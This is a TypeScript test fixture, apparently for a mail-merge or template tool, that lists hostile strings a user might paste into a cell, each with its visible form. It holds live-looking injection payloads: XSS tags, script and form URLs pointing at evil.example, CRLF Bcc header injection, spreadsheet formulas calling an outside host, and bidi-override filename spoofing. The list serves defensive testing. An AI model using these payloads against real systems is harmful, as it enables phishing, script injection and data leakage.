// Texts that somebody might type or paste into a cell to break a mail, each with what a reader may see of it.
// Every one holds something visible, so that it fills the place it is put in.

export interface Hostile {
  readonly typed: string;
  /** One line, nothing invisible; for most just what was typed. */
  readonly shown: string;
}

const asTyped = (...texts: readonly string[]): Hostile[] => texts.map((typed) => ({ typed, shown: typed }));
const shownAs = (...pairs: readonly (readonly [typed: string, shown: string])[]): Hostile[] =>
  pairs.map(([typed, shown]) => ({ typed, shown }));

const html = asTyped(
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><style>*{display:none}</style></svg>',
  '<style>body{display:none}</style>',
  '<b>หนา',
  '</div></td></tr></table>',
  '</style></head><body>',
  '</title><h1>x</h1>',
  '<a href="https://evil.example">คลิก</a>',
  '<iframe srcdoc="&lt;script&gt;">',
  '<form action=https://evil.example><input name=p>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<!-- open',
  '--><i>x</i>',
  '<![CDATA[ x ]]>',
  ']]><b>x</b>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE html>',
  '<!--[if mso]><b>x</b><![endif]-->',
);
const attributes = asTyped(
  '"><b>x</b>',
  "' onmouseover='alert(1)",
  '" style="position:fixed;top:0',
  '`onfocus=alert(1) autofocus x=`',
  'red;background:url(https://evil.example/x.png)',
  'expression(alert(1))',
);
const entities = asTyped(
  '&lt;b&gt;',
  '&#60;b&#62;',
  '&amp;lt;',
  '&nbsp',
  '%3Cscript%3E',
  '%0D%0ABcc:evil@c.example',
  '\\u003cb\\u003e',
);
const templates = asTyped(
  '{{subject}}',
  '{{{signer}}}',
  '{{&greeting}}',
  '{{#items}}x{{/items}}',
  '{{^items}}x',
  '{{/sections}}',
  '{{! note }}x',
  '{{=<% %>=}}',
  '{{> partial}}',
  '{{.}}',
  '{ปี} {จังหวัด}',
  '{จงหวัด} {ปี',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a string that looks like a template
  '${alert(1)}',
  "$& $1 $` $' $$",
  '<?= x ?> <?!= y ?>',
  '<%= x %>',
);
const links = asTyped(
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'mailto:evil@c.example?bcc=d@e.example',
  'a@b.example?bcc=evil@c.example&body=x',
  'https://evil.example/?a=1&b="x"',
);
const formulas = asTyped(
  '=HYPERLINK("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "'=1+1",
  '|calc',
);
const prototypes = asTyped('__proto__', 'constructor', 'toString', 'length', 'undefined', 'null', '[object Object]');
const thai = asTyped('ผู้ว่าราชการจังหวัด ที่ปรึกษา น้ำ กี่ ปฏิสัมพันธ์ ซึ่ง ฐานข้อมูลฯ ๆ', 'เเก้ไข ํา ก็์ ฯลฯ ๏', 'ยาว'.repeat(700));
const lines = shownAs(
  ['a\r\nBcc: evil@c.example', 'a Bcc: evil@c.example'],
  ['a\r\n\tfolded', 'a folded'],
  ['a\nSubject: ของเรา', 'a Subject: ของเรา'],
  ['a\n\nจึงเรียนมา', 'a จึงเรียนมา'],
  ['a\rb', 'a b'],
  ['a\u2028b\u2029c', 'a b c'],
  ['a\u0085b\u000bc\u000cd', 'a b c d'],
  ['\ta\tb', 'a b'],
  ['a\u00a0\u3000b', 'a b'],
);
const invisible = shownAs(
  ['a\u0000b\u0007c\u007fd\u009fe', 'a b c d e'],
  ['\u202egnp.exe', 'gnp.exe'],
  ['\u202dก\u202c\u202aข\u202b', 'กข'],
  ['\u2066x\u2069\u2067y\u2068', 'xy'],
  ['\u200eก\u200fข\u061cค', 'กขค'],
  ['z\u200be\u200cr\u200do\ufeff\u2060!', 'zero!'],
  ['soft\u00adhyphen\u034f\u180e', 'softhyphen'],
  ['tag\u{e0041}\u{e0042}\u{e007f}', 'tag'],
  ['\u3164filler\u115f\uffa0', 'filler'],
  ['\ufff9a\ufffab\ufffb', 'ab'],
  ['\ud800 lone \udc00', 'lone'],
  ['😀\ud83d ครึ่ง', '😀 ครึ่ง'],
  ['👨\u200d👩\u200d👧 ครอบครัว', '👨👩👧 ครอบครัว'],
);

export const hostileStrings: readonly Hostile[] = [
  ...html,
  ...attributes,
  ...entities,
  ...templates,
  ...links,
  ...formulas,
  ...prototypes,
  ...thai,
  ...lines,
  ...invisible,
];
